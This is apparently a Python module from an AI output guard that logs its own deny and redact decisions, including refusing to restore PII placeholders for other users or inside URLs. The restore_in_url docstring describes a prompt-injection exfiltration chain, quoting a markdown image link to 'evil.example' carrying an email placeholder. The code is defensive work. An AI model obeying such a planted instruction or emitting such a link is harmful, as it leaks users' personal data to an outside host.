"""Decisions the guard makes itself, without the policy: recorded like any decision (audit
log, span, metrics) so an operator sees them, and never holding the data they are about."""

from __future__ import annotations

from collections.abc import Mapping

from charter.decision import Action, Decision, Severity, Stage, Violation
from charter.pii.vault_mapping import Restoration
from charter.pipeline.limits import Overrun

LIMIT_RULE = "charter.limit_exceeded"
CROSS_PRINCIPAL_RULE = "charter.pii.cross_principal_restore"
RESTORE_IN_URL_RULE = "charter.pii.restore_in_url"
UNREADABLE_RULE = "charter.unreadable_data"


def over_limit(overrun: Overrun, stage: Stage, policy_revision: str) -> Decision:
    """Data over a size or depth limit: denied, the policy was not evaluated on it."""
    violation = Violation(
        rule=LIMIT_RULE,
        principle="Bounded input: data too large or too deeply nested to check is refused",
        severity=Severity.HIGH,
        message=overrun.message,
    )
    return Decision(
        action=Action.DENY,
        violations=(violation,),
        stage=stage,
        policy_revision=policy_revision,
        error=f"limit: {overrun.setting} {overrun.limit} exceeded",
    )


def unreadable(message: str, stage: Stage, policy_revision: str) -> Decision:
    """Tool data with no JSON view (`pipeline.limits.Unreadable`), an answer not in the
    shape its adapter reads: denied unchecked."""
    violation = Violation(
        rule=UNREADABLE_RULE,
        principle="Checkable input: data the guard cannot read as JSON is refused unchecked",
        severity=Severity.HIGH,
        message=message,
    )
    return Decision(
        action=Action.DENY,
        violations=(violation,),
        stage=stage,
        policy_revision=policy_revision,
        error="unreadable: no JSON view",
    )


def cross_principal_restore(refused: Mapping[str, int], policy_revision: str) -> Decision:
    """An answer held placeholders that another user of the same conversation was issued:
    they were not restored (`redact`: the answer went out with them as placeholders)."""
    kinds = ", ".join(f"{count} {kind}" for kind, count in sorted(refused.items()))
    violation = Violation(
        rule=CROSS_PRINCIPAL_RULE,
        principle="Placeholders are restorable only for the principal that made them",
        severity=Severity.HIGH,
        message=(
            f"the answer held placeholders issued to another user of this conversation "
            f"({kinds}); they were not restored"
        ),
    )
    return Decision(
        action=Action.REDACT,
        violations=(violation,),
        stage=Stage.OUTPUT,
        policy_revision=policy_revision,
    )


def restore_in_url(kept: Mapping[str, int], policy_revision: str) -> Decision:
    """An answer held the caller's placeholders inside a URL (a markdown link or image, an
    HTML `src`/`href`, a bare `https://...`): they were not restored, since a client that
    renders the link fetches it with the value (found by probing: the classic exfiltration
    chain, a planted instruction asking for `![](https://evil.example/p.png?d=<EMAIL_1>)`)."""
    kinds = ", ".join(f"{count} {kind}" for kind, count in sorted(kept.items()))
    violation = Violation(
        rule=RESTORE_IN_URL_RULE,
        principle="Placeholders are never restored into a URL, where a rendered answer sends them",
        severity=Severity.HIGH,
        message=f"the answer held placeholders inside a URL ({kinds}); they were not restored",
    )
    return Decision(
        action=Action.REDACT,
        violations=(violation,),
        stage=Stage.OUTPUT,
        policy_revision=policy_revision,
    )


def restore_notes(result: Restoration, noted: set[str], policy_revision: str) -> list[Decision]:
    """The decisions to record for what one restore refused: each kind once per call
    (`noted` keeps the kinds recorded so far; a stream restores slice by slice)."""
    out = []
    if result.refused and CROSS_PRINCIPAL_RULE not in noted:
        noted.add(CROSS_PRINCIPAL_RULE)
        out.append(cross_principal_restore(result.refused, policy_revision))
    if result.in_url and RESTORE_IN_URL_RULE not in noted:
        noted.add(RESTORE_IN_URL_RULE)
        out.append(restore_in_url(result.in_url, policy_revision))
    return out
